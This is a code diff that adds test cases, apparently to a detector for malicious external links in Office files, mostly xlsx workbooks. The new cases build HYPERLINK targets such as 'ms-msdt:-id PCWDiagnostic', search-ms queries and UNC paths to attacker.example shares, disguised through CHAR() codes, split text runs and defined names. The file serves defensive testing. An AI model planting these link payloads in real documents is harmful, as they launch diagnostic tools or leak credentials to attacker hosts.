@@ -2949,6 +2949,21 @@ export const ACTIVE_GENUINE: readonly {
       ]),
     warning: 'EXTERNAL_LINK',
   },
+  {
+    id: 'xlsx-hyperlink-picks-beside-labels',
+    declared: 'xlsx',
+    // A list of web sites linked with HYPERLINK(A1), beside labels a person writes with a colon:
+    // in shared strings (`编号` and `:A12` as two runs), inline strings, results and formulas.
+    bytes: () =>
+      workbookWithStrings(
+        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,"打开")</f><v>打开</v></c>' +
+          '<c r="C1" t="inlineStr"><is><t>Note:see below</t></is></c>' +
+          '<c r="D1" t="str"><f>"ID:"&amp;A2</f><v>ID:AB</v></c>' +
+          '<c r="E1" t="str"><f>A2&amp;CHAR(10)&amp;A3</f></c><c r="F1" t="str"><f>CHAR(34)&amp;A2&amp;CHAR(34)</f></c>' +
+          '<c r="G1" t="str"><f>"完成"</f><v>完成</v></c><c r="H1" t="str"><f>IF(A2="","Re:Q3","Name:张三")</f></c>',
+        ['https://www.miit.gov.cn/', 'ID:AB', ['编号', ':A12'], 'Re:Q3', 'Name:张三', 'Ref:ABC-123', 'Note:'],
+      ),
+  },
 ];
 
 /**
@@ -3056,6 +3071,77 @@ function computedLinkOfficeItems(): CorpusItem[] {
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "fi</w:instrText></w:r>' +
             '<w:fldSimple w:instr=" QUOTE &quot;le:///C:/x.exe&quot; "/><w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
         ),
+      'OOXML_EXTERNAL',
+    ),
+    // Round 9: a sheet's own strings and computed cells, read for the HYPERLINK that picks them.
+    item(
+      'xlsx-hyperlink-picks-formula-program-string',
+      COMPUTED,
+      // A formula that is a string alone, its quotes as Excel writes them (not escaped).
+      () => workbookWithStrings(`${picks}<c r="C1" t="str"><f>"ms-msdt:-id PCWDiagnostic /skip force"</f></c>`, []),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-inline-program-string',
+      COMPUTED,
+      () =>
+        workbookWithStrings(
+          `${picks}<c r="C1" t="inlineStr"><is><t>search-ms:query=申报&amp;crumb=location:attacker.example</t></is></c>`,
+          [],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-cached-program-result',
+      COMPUTED,
+      () => workbookWithStrings(`${picks}<c r="C1" t="str"><f>C9</f><v>ms-msdt:-id PCWDiagnostic</v></c>`, []),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-inline-rich-text-scheme',
+      COMPUTED,
+      // An inline string cut into runs: `search-ms:` then `query=…`, each harmless alone.
+      () =>
+        workbookWithStrings(
+          `${picks}<c r="C1" t="inlineStr"><is><r><t>search-ms:</t></r><r><t>query=x</t></r></is></c>`,
+          [],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-char-built-share',
+      COMPUTED,
+      // The cached value left out: Excel computes `\\attacker.example\share\x` as it opens.
+      () =>
+        workbookWithStrings(`${picks}<c r="C1"><f>${q('CHAR(92)&CHAR(92)&"attacker.example\\share\\x"')}</f></c>`, []),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-char-built-scheme-name',
+      COMPUTED,
+      () =>
+        workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(目标)</f><v>x</v></c>', [], {
+          names: `<definedName name="目标">${q('"ms-msdt"&CHAR(58)&"-id PCWDiagnostic"')}</definedName>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-char-built-share-read-first',
+      COMPUTED,
+      // A slash by its code, then a string that finishes a share: `//attacker.example/share`.
+      () =>
+        workbookWithStrings(`${picks}<c r="C1"><f>CHAR(47)&amp;A2</f></c>`, ['/attacker.example/share/x.xlsx'], {
+          stringsFirst: true,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-scheme-joined-to-cell',
+      COMPUTED,
+      () =>
+        workbookWithStrings(`${picks}<c r="C1" t="str"><f>"search-ms:"&amp;A2</f></c>`, [
+          'query=x&amp;crumb=location:\\\\attacker.example\\share',
+        ]),
       'OOXML_EXTERNAL',
     ),
   ];
